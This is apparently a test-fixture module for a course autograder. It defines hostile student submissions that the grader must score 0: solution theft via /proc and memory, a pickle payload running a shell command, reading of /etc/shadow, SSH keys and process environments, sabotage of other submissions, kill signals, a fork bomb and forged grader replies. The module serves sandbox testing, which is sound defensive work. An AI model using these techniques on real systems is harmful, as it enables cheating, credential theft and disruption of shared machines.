"""Hostile submissions, and honest ones graded alongside them (tests/test_grading_hostile.py).

Each attack is its set's solution notebook (grading_support.submission_text) with the functions it attacks
replaced and cells added; everything else is honest, so the test can tell the attacked items (which must
score 0) from the rest. Placeholders the test fills in, as if the attacker knew every path:

    @REPO@     the course checkout (its solutions/ and tests/)      @PACKAGE@  the installed package
    @CLASS@    the class folder (submissions/, report/)             @SECRET@   an instructor's secret file
    @REPORT@   the report being written                             @PORT@     a TCP port the test listens on
    @TOKEN@    the name of an environment variable holding a secret in the grader's environment

``ATTACKS[file name] = {"kind", "what", "attacked": [items that must score 0], **changes}``;
``HONEST[file name] = changes`` (plus ``bom``, ``link_to``); every honest student must get full marks.

Every attack that reaches outside its process aims only at the test's own class folder and at the grader's
own processes (those whose command line names @CLASS@), never at the rest of the machine: graded without
the sandbox (the fallback, or a broken grader), a suite that appends to every file it can find or signals every
process it can see would harm other people's work. (It did once, run by hand without the sandbox.)
"""

#: the grader and its workers: the only processes an attack may look at (their command line names the class)
OURS = '''
def _ours():
    import os
    found = [os.getppid()]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"@CLASS@" in f.read():
                    found.append(int(pid))
        except (OSError, ValueError):
            pass
    return [p for p in found if p != os.getpid()]
'''

# ---------------------------------------------------------------------------------------------- cheats

STEAL_SOLUTION = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    import ast, glob, os
    import rnn_course
    places = ["@REPO@/solutions", os.path.join(os.path.dirname(os.path.dirname(rnn_course.__file__)), "solutions")]
    for pid in _ours():
        try:
            places.append(os.path.join(os.readlink(f"/proc/{pid}/cwd"), "solutions"))  # the grader's folder
        except OSError:
            pass
    for place in places:
        for path in glob.glob(os.path.join(place, "01_forward_pass.*")):
            try:
                tree = ast.parse(open(path).read())
            except Exception:
                continue
            for node in tree.body:
                if isinstance(node, ast.FunctionDef) and node.name == "rnn_step_forward":
                    scope = {"np": np}
                    exec(compile(ast.Module([node], []), path, "exec"), scope)
                    return scope["rnn_step_forward"](x, h_prev, Wx, Wh, b, activation)
    raise RuntimeError("no solutions found")
'''

DIG_FOR_ORIGINAL = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    import gc, types
    import rnn_course
    me = globals()["rnn_step_forward"].__code__
    reference = rnn_course.rnn_step_forward
    for name, value in list(reference.__globals__.items()):  # a trap's dispatcher, and the originals it keeps
        if name.startswith("__rnn_course") and callable(value):
            for cell in getattr(value, "__closure__", None) or ():
                kept = cell.cell_contents
                if isinstance(kept, dict):
                    for fn in kept.values():
                        try:
                            return fn(x, h_prev, Wx, Wh, b, activation)
                        except Exception:
                            pass
    for obj in gc.get_objects():  # any other copy of the function, or of its code, anywhere in memory
        code = obj.__code__ if isinstance(obj, types.FunctionType) else obj if isinstance(obj, types.CodeType) else None
        if code is None or code is me or code.co_name != "rnn_step_forward" or "_ReferenceCalled" in code.co_names:
            continue
        try:
            return types.FunctionType(code, reference.__globals__)(x, h_prev, Wx, Wh, b, activation)
        except Exception:
            pass
    raise RuntimeError("nothing to dig up")
'''

IMPERSONATE_PACKAGE = '''
def rnn_forward(x, h0, Wx, Wh, b, activation="tanh"):
    scope = {"__name__": "rnn_course.jacobians", "__package__": "rnn_course", "args": (x, h0, Wx, Wh, b, activation)}
    exec("from rnn_course.cells.rnn import rnn_forward as f\\nresult = f(*args)", scope)  # 'trusted' package code
    return scope["result"]
'''

LINK_AND_LIBC = '''
def softmax(x, axis=-1):
    import ctypes, os
    import rnn_course.activations
    for path in ["@PACKAGE@/activations.py", rnn_course.activations.__file__]:
        text = None
        try:
            link = "activations_link.py"  # in its working folder: the private /tmp
            if os.path.lexists(link):
                os.unlink(link)
            os.link(path, link)  # a hard link is another name for the same file
            text = open(link).read()
        except Exception:
            pass
        if not text or "_ReferenceCalled" in text:
            try:
                libc = ctypes.CDLL(None)
                fd = libc.open(path.encode(), 0)
                buffer = ctypes.create_string_buffer(1 << 20)
                text = buffer.raw[:max(libc.read(fd, buffer, 1 << 20), 0)].decode()
            except Exception:
                pass
        if text and "def softmax" in text and "_ReferenceCalled" not in text:
            scope = {}
            exec(text, scope)
            return scope["softmax"](x, axis)
    raise RuntimeError("no readable source")
'''

EDIT_PACKAGE = '''
import os

import rnn_course

EDITED = []
for folder in ["@PACKAGE@", os.path.dirname(rnn_course.__file__)]:
    for name in ["grading/checks/framework.py", "grading/isolation/harness.py", "grading/catalog.py",
                 "cells/rnn.py", "__init__.py"]:
        try:
            with open(os.path.join(folder, name), "a") as f:
                f.write("\\n# every check passes from now on\\n")
            EDITED.append(name)
        except OSError:
            pass
for folder in ["@PACKAGE@", os.path.dirname(rnn_course.__file__)]:  # a .pyc planted next to a module
    try:
        os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
        open(os.path.join(folder, "__pycache__", "activations.cpython-311.pyc"), "wb").write(b"junk")
        EDITED.append("pyc")
    except OSError:
        pass
'''

ORIGINAL_BY_PATH = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    import glob, importlib.util, marshal, sys, types
    paths = ["@PACKAGE@/cells/rnn.py"]
    for finder in sys.meta_path:  # an editable install's finder knows where the source lives
        mapping = getattr(finder, "MAPPING", None) or getattr(getattr(finder, "__self__", None), "MAPPING", None)
        if isinstance(mapping, dict) and "rnn_course" in mapping:
            paths.append(mapping["rnn_course"] + "/cells/rnn.py")
    for entry in sys.path:
        paths += glob.glob(f"{entry}/rnn_course/cells/rnn.py")
    for path in paths:
        try:
            spec = importlib.util.spec_from_file_location("stolen_rnn", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.rnn_step_forward(x, h_prev, Wx, Wh, b, activation)
        except Exception:
            pass
    for pyc in glob.glob("@PACKAGE@/cells/__pycache__/rnn.*.pyc"):
        try:
            code = marshal.loads(open(pyc, "rb").read()[16:])
            scope = {"__name__": "rnn_course.cells.rnn", "__package__": "rnn_course.cells"}
            exec(code, scope)
            return scope["rnn_step_forward"](x, h_prev, Wx, Wh, b, activation)
        except Exception:
            pass
    raise RuntimeError("no original found")
'''

FORGE_FRAMES = '''
import json
import os
import struct
import sys
import threading


def _flood():
    header = json.dumps({"status": "ok", "value": {"t": "float", "v": "1.0"}, "blobs": 0}).encode()
    frame = struct.pack(">Q", len(header)) + header
    while True:
        try:
            os.write(int(sys.argv[2]), frame)
        except OSError:
            return


threading.Thread(target=_flood, daemon=True).start()
'''

PICKLE_BOMB = '''
def softmax(x, axis=-1):
    import os

    class Evil:
        def __reduce__(self):
            return (os.system, ("touch @CLASS@/unpickled",))

    return Evil()
'''

ALWAYS_EQUAL = '''
def softmax(x, axis=-1):
    class AlwaysEqual(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(self), dtype=bool)

        def __array__(self, dtype=None, copy=None):
            return np.asarray(self.view(np.ndarray), dtype=dtype)

    np.allclose = lambda *a, **k: True  # in this process only: the judge compares in its own
    return np.zeros_like(x).view(AlwaysEqual)
'''

# ---------------------------------------------------------------------------------------------- harm to others

SABOTAGE_OTHERS = '''
import glob
import os

TARGETS = glob.glob("@CLASS@/submissions/*")
for pid in _ours():
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
        TARGETS += [a for a in argv if a.lower().endswith((".py", ".ipynb"))]
        TARGETS += glob.glob(os.path.join(os.readlink(f"/proc/{pid}/cwd"), "*.py"))
    except OSError:
        pass
for target in TARGETS:
    if not os.path.realpath(target).startswith("@CLASS@"):
        continue  # never anything outside the test's class folder, sandbox or not
    try:
        with open(target, "a") as f:
            f.write("\\n# %%\\ndef rnn_step_forward(*a, **k):\\n    raise RuntimeError('sabotaged')\\n")
    except OSError:
        pass
'''

SURVIVE_AND_REWRITE = '''
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
FORKED = []
for make in (lambda: libc.fork(), lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0, 0, 0, 0),
             lambda: os.fork()):
    try:
        pid = make()
    except Exception:
        continue
    if pid == 0:
        libc.setsid()
        for _ in range(60):  # outlive the worker, and the grader, and write the report afterwards
            time.sleep(0.5)
            try:
                open("@REPORT@", "w").write('{"submissions": []}')
            except OSError:
                pass
        os._exit(0)
    if pid > 0:
        FORKED.append(pid)
'''

LEAK_SECRETS = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    import glob, os
    loot = []
    for path in ["@SECRET@", "@CLASS@/submissions/honest_" + "a_01_forward_pass.py", "/etc/shadow",
                 os.path.expanduser("~/.ssh/id_rsa")] + glob.glob("@CLASS@/submissions/*honest*"):
        try:
            loot.append(open(path).read()[-300:])
        except OSError as err:
            loot.append(type(err).__name__)
    loot.append(os.environ.get("@TOKEN@", "no token"))
    for pid in _ours():
        try:
            loot.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")[:3000])
        except OSError:
            pass
    raise RuntimeError(" | ".join(loot))
'''

KILL_EVERYTHING = '''
import os
import signal

for pid in _ours():
    for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
if os.getpid() < 100:  # inside a PID namespace (the sandbox): kill(-1) reaches only it. Outside, it would be
    try:               # every process this user can signal on the machine: not something a test may try
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGINT)
except OSError:
    pass
'''

WRITE_EVERYWHERE = '''
import os

WRITTEN = 0
for i in range(8):  # fill the private /tmp: 128 MB asked for, twice what it holds
    try:
        with open(f"fill{i}", "wb") as f:  # its working folder: the private /tmp
            f.write(b"\\0" * (16 * 1024 * 1024))
        WRITTEN += 16
    except OSError:
        break
for folder in ["/opt/rnn-course", "/opt/rnn-course/rnn_course", os.path.expanduser("~"), "@CLASS@", "@CLASS@/submissions"]:
    try:
        open(os.path.join(folder, "dropped.txt"), "w").write("was here")
    except OSError:
        pass
'''

PHONE_HOME = '''
import socket

try:
    connection = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
    connection.sendall(b"pwned")
    connection.close()
except OSError as err:
    NETWORK = str(err)
'''

# ---------------------------------------------------------------------------------------------- denial of service

HUGE_REPLY = '''
def softmax(x, axis=-1):
    return np.ones(250 * 1024 * 1024 // 8)  # a 250 MB reply
'''

HUGE_HEADER = '''
def rnn_forward(x, h0, Wx, Wh, b, activation="tanh"):
    return ["x" * 9999] * 20_000, None  # 200 MB of JSON
'''

DEEP_REPLY = '''
def softmax(x, axis=-1):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
'''

RAISE_LIMITS = '''
import resource

for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    soft, hard = resource.getrlimit(limit)
    for wanted in ((hard, hard), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
        try:
            resource.setrlimit(limit, wanted)
        except (ValueError, OSError):
            pass
LIMITS = {name: resource.getrlimit(getattr(resource, name)) for name in ("RLIMIT_AS", "RLIMIT_NPROC")}
'''

REPORT_LIMITS = '''
def softmax(x, axis=-1):
    raise RuntimeError(f"limits now {LIMITS}")
'''

MEMORY_AFTER_RAISE = '''
def rnn_forward(x, h0, Wx, Wh, b, activation="tanh"):
    scratch = np.ones((2 * 1024 * 1024 * 1024) // 8)  # 2 GB, touched: over the 1024 MB limit if it still holds
    return scratch, None
'''

FORK_BOMB = '''
import ctypes
import os
import time

FORKED = 0
for _ in range(100):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        FORKED += 1
    except OSError:
        break
try:
    libc = ctypes.CDLL(None)
    for _ in range(100):
        pid = libc.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        if pid < 0:
            break
        FORKED += 1
except Exception:
    pass
'''

REPORT_FORKS = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    raise RuntimeError(f"forked {FORKED}")
'''

IGNORE_ALARM = '''
def softmax(x, axis=-1):
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
'''

CLOSE_PIPES = '''
def softmax(x, axis=-1):
    import os
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return np.exp(x) / np.exp(x).sum(axis=axis, keepdims=True)
'''

ALL_01 = ["rnn_step_forward", "rnn_forward", "softmax", "softmax_cross_entropy"]

ATTACKS = {
    # cheats: a score without solving anything
    "01_forward_pass__steal_solutions.py": dict(
        kind="cheat", what="runs the instructor's solutions/ from disk (next to the package, or through the grader's "
                           "working folder in /proc)",
        attacked=["rnn_step_forward"], before=[OURS], replace={"rnn_step_forward": STEAL_SOLUTION}),
    "01_forward_pass__dig_for_original.py": dict(
        kind="cheat", what="looks for the reference's original code through the trap's globals and closures, and "
                           "through every object in memory",
        attacked=["rnn_step_forward"], replace={"rnn_step_forward": DIG_FOR_ORIGINAL}),
    "01_forward_pass__impersonate_package.py": dict(
        kind="cheat", what="calls the reference from code exec'd under a package module's name",
        attacked=["rnn_forward"], replace={"rnn_forward": IMPERSONATE_PACKAGE}),
    "01_forward_pass__link_and_libc.py": dict(
        kind="cheat", what="reads the reference's source through a hard link and through libc's open/read",
        attacked=["softmax"], replace={"softmax": LINK_AND_LIBC}),
    "01_forward_pass__original_by_path.py": dict(
        kind="cheat", what="loads the original module by file path (the editable install's finder, sys.path, the "
                           "cached bytecode)",
        attacked=["rnn_step_forward"], replace={"rnn_step_forward": ORIGINAL_BY_PATH}),
    "01_forward_pass__edit_package.py": dict(
        kind="cheat", what="edits the installed course package (the grading code) and plants bytecode, so that a "
                           "later run passes everything",
        attacked=[], before=[EDIT_PACKAGE]),
    "01_forward_pass__forge_frames.py": dict(
        kind="cheat", what="writes forged 'correct' replies straight into the grader's pipe, endlessly",
        attacked=ALL_01, before=[FORGE_FRAMES],
        replace={name: f"def {name}(*args, **kwargs):\n    return 1.0\n" for name in ALL_01}),
    "01_forward_pass__pickle_bomb.py": dict(
        kind="cheat", what="returns an object whose unpickling would run a shell command in the grader",
        attacked=["softmax"], replace={"softmax": PICKLE_BOMB}),
    "01_forward_pass__always_equal.py": dict(
        kind="cheat", what="returns an array subclass equal to everything, and patches numpy's comparisons",
        attacked=["softmax"], replace={"softmax": ALWAYS_EQUAL}),
    # harm to other students and to the instructor
    "01_forward_pass__sabotage_others.py": dict(
        kind="harm", what="finds other submissions (the class folder, the grader's argv in /proc) and appends code "
                          "that breaks them",
        attacked=[], before=[OURS, SABOTAGE_OTHERS]),
    "01_forward_pass__survive_and_rewrite.py": dict(
        kind="harm", what="forks through ctypes, setsid, and keeps rewriting the report after the grader exits",
        attacked=[], before=[SURVIVE_AND_REWRITE]),
    "01_forward_pass__leak_secrets.py": dict(
        kind="harm", what="copies an instructor's secret file, other students' files and the environment into the "
                          "report through an exception message",
        attacked=["rnn_step_forward"], before=[OURS], replace={"rnn_step_forward": LEAK_SECRETS}),
    "01_forward_pass__kill_everything.py": dict(
        kind="harm", what="sends SIGSTOP, SIGINT, SIGTERM and SIGKILL to the grader and its processes, SIGINT to "
                          "the grader's process group, and kill(-1)",
        attacked=[], before=[OURS, KILL_EVERYTHING]),
    "01_forward_pass__write_everywhere.py": dict(
        kind="harm", what="fills its /tmp and tries to write into the package, its home folder and the class "
                          "folder",
        attacked=[], before=[WRITE_EVERYWHERE]),
    "01_forward_pass__phone_home.py": dict(
        kind="harm", what="opens a network connection to a port on the grader's machine",
        attacked=[], before=[PHONE_HOME]),
    # denial of service
    "01_forward_pass__huge_reply.py": dict(
        kind="dos", what="returns 250 MB", attacked=["softmax"], replace={"softmax": HUGE_REPLY}),
    "01_forward_pass__huge_reply_b.py": dict(
        kind="dos", what="returns 250 MB (a second student, so several run at once with --jobs 4)",
        attacked=["softmax"], replace={"softmax": HUGE_REPLY}),
    "01_forward_pass__huge_reply_c.py": dict(
        kind="dos", what="returns 250 MB (a third)", attacked=["softmax"], replace={"softmax": HUGE_REPLY}),
    "01_forward_pass__huge_header.py": dict(
        kind="dos", what="returns 200 MB of JSON-encoded strings", attacked=["rnn_forward"],
        replace={"rnn_forward": HUGE_HEADER}),
    "01_forward_pass__deep_reply.py": dict(
        kind="dos", what="returns a list nested 100000 deep", attacked=["softmax"], replace={"softmax": DEEP_REPLY}),
    "01_forward_pass__raise_limits.py": dict(
        kind="dos", what="raises its soft limits to the hard ones (and to infinity), then allocates 2 GB",
        attacked=["softmax", "rnn_forward"], before=[RAISE_LIMITS],
        replace={"softmax": REPORT_LIMITS, "rnn_forward": MEMORY_AFTER_RAISE}),
    "01_forward_pass__fork_bomb.py": dict(
        kind="dos", what="forks 200 sleeping children (os.fork and libc's fork)", attacked=["rnn_step_forward"],
        before=[FORK_BOMB], replace={"rnn_step_forward": REPORT_FORKS}),
    "01_forward_pass__ignore_alarm.py": dict(
        kind="dos", what="ignores the alarm that stops a slow call, then loops forever", attacked=["softmax"],
        replace={"softmax": IGNORE_ALARM}),
    "01_forward_pass__close_pipes.py": dict(
        kind="dos", what="closes the grader's pipes from inside a graded call", attacked=["softmax"],
        replace={"softmax": CLOSE_PIPES}),
}

# ---------------------------------------------------------------------------------------------- honest students

HONEST = {
    "honest_a_01_forward_pass.py": dict(after=["# HONEST-MARKER-a: a solution, as handed out"]),
    "honest_b_01_forward_pass.py": dict(replace={"rnn_step_forward": '''
def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
    from rnn_course.activations import relu, tanh   # the package's helpers, not the reference of this item
    a = x @ Wx + h_prev @ Wh + b
    h = tanh(a) if activation == "tanh" else relu(a)
    return h, (x, h_prev, h, Wx, Wh, activation)
''', "softmax_cross_entropy": '''
def softmax_cross_entropy(logits, y, mask=None):
    N, T, V = logits.shape
    m = np.ones((N, T)) if mask is None else np.asarray(mask, dtype=float)
    z = logits - logits.max(axis=-1, keepdims=True)
    logp = z - np.log(np.exp(z).sum(axis=-1, keepdims=True))
    count = max(m.sum(), 1.0)
    loss = -np.sum(np.take_along_axis(logp, y[..., None], axis=-1)[..., 0] * m) / count
    d = np.exp(logp)
    np.put_along_axis(d, y[..., None], np.take_along_axis(d, y[..., None], axis=-1) - 1.0, axis=-1)
    return np.array(loss), d * m[..., None] / count   # a 0-d array is a number too
''', "rnn_forward": '''
def rnn_forward(x, h0, Wx, Wh, b, activation="tanh"):
    from rnn_course.activations import softmax as reference_softmax
    print(reference_softmax(np.zeros(3)))   # a check against the package, at the top of the function's cell
    N, T, _ = x.shape
    h = np.empty((N, T, h0.shape[1]))
    caches, prev = [], h0
    for t in range(T):
        prev, cache = rnn_step_forward(x[:, t], prev, Wx, Wh, b, activation)
        h[:, t] = prev
        caches.append(cache)
    return h, (caches, activation)
'''}, before=["from rnn_course.activations import softmax as reference_softmax\n"
              "print(reference_softmax(np.zeros(3)))  # comparing with the package in the notebook: allowed\n"
              "\ndef helper():\n    return 1"]),
    "honest_c_01_forward_pass.py": dict(bom=True),
    "honest_d_02_bptt.IPYNB": {},
    "honest_e_03_gradients.py": {},
    "honest_f_04_gates.ipynb": {},
    "honest_g_05_language_model.py": {},
    "honest_h_01_forward_pass.py": dict(link_to="honest_a_01_forward_pass.py"),
}
